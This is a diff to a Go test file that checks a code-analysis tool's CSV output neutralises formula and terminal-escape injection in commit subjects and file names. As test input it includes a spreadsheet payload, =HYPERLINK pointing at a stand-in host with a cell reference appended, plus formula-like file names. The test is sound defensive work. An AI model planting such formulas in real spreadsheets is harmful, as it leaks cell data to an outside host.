@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"path/filepath"
@@ -149,5 +150,74 @@ func TestTerminalEscapesFromTheTree(t *testing.T) {
 		}
 		assert.Contains(t, texts.String(), "The condition `"+cond+"` is tested again by a later elif of the same chain; that branch can never run.\n")
 		assert.Contains(t, texts.String(), "function `"+method+"` exceeds complexity threshold (complexity 11 > 10,")
+	})
+}
+
+// csvRowsT parses a CSV output into rows of cells keyed by the header's
+// names.
+func csvRowsT(t *testing.T, out string) []map[string]string {
+	t.Helper()
+	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err, out)
+	require.NotEmpty(t, records)
+	var rows []map[string]string
+	for _, rec := range records[1:] {
+		row := map[string]string{}
+		for k, name := range records[0] {
+			row[name] = rec[k]
+		}
+		rows = append(rows, row)
+	}
+	return rows
+}
+
+// The CSV outputs write what comes from the tree (a commit subject, a
+// file name) as text a spreadsheet will not run and a terminal will not
+// act on: a leading =, +, -, @ gets a quote, controls are escaped; the
+// numbers stay numbers, a negative delta included.
+func TestCSVCellsAreText(t *testing.T) {
+	work, err := filepath.EvalSymlinks(t.TempDir())
+	require.NoError(t, err)
+
+	t.Run("trajectory", func(t *testing.T) {
+		repo := filepath.Join(work, "repo")
+		newRepoT(t, repo)
+		// Ten ifs: CC 11, the only function, so erosion is 1; then CC 1,
+		// erosion 0: delta_erosion is -1.
+		branchy := "def f(x):\n"
+		for i := 1; i <= 10; i++ {
+			branchy += fmt.Sprintf("    if x == %d:\n        return %d\n", i, i)
+		}
+		branchy += "    return 0\n"
+		formula := `=HYPERLINK("http://e.example/?"&A1,"x")`
+		commitT(t, repo, formula+hostile, map[string]string{"a.py": branchy})
+		commitT(t, repo, "-2+3", map[string]string{"a.py": "def f(x):\n    return x\n"})
+		got := runBinary(t, work, []string{"trajectory", "--git", "repo", "--disable-sg", "--output-format", "csv"}, nil)
+		require.Equal(t, "0\n", got[secExit], got[secStderr])
+		assertNoHostile(t, got)
+		rows := csvRowsT(t, got[secStdout])
+		require.Len(t, rows, 2)
+		assert.Equal(t, "'"+formula+shown, rows[0]["subject"])
+		assert.Equal(t, "'-2+3", rows[1]["subject"])
+		assert.Equal(t, "1", rows[0]["erosion"])
+		assert.Equal(t, "0", rows[1]["erosion"])
+		assert.Equal(t, "-1", rows[1]["delta_erosion"], "a negative delta is a number, not quoted text")
+	})
+
+	t.Run("functions", func(t *testing.T) {
+		dir := filepath.Join(work, "tree")
+		writeTree(t, dir, map[string]string{
+			"=1+2" + hostile + ".py": "def f():\n    return 1\n",
+			"@g.py":                  "def g():\n    return 2\n",
+		})
+		got := runBinary(t, dir, []string{"functions", "--output-format", "csv", "."}, nil)
+		require.Equal(t, "0\n", got[secExit], got[secStderr])
+		assertNoHostile(t, got)
+		rows := csvRowsT(t, got[secStdout])
+		require.Len(t, rows, 2)
+		assert.Equal(t, "'=1+2"+shown+".py", rows[0]["path"])
+		assert.Equal(t, "'@g.py", rows[1]["path"])
+		assert.Equal(t, "f", rows[0]["name"])
+		assert.Equal(t, "1", rows[0]["cc"])
 	})
 }
